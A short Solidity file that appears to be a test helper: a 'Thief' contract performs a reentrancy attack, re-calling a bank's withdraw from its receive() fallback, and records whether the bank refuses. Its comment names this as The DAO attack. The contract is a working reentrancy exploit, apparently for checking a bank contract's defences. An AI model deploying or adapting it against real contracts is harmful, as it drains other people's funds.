// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IBank {
	function deposit() external payable;
	function withdraw() external;
}

/// Asks a bank for more while it is being paid: the attack on The DAO.
contract Thief {
	IBank private bank;
	uint256 private rounds;
	/// Whether the last try to be paid again was refused.
	bool public refused;

	function steal(IBank from, uint256 times) external payable {
		bank = from;
		bank.deposit{value: msg.value}();
		rounds = times;
		bank.withdraw();
	}

	receive() external payable {
		if (rounds == 0) return;
		rounds--;
		try bank.withdraw() {
			refused = false;
		} catch {
			refused = true;
		}
	}
}
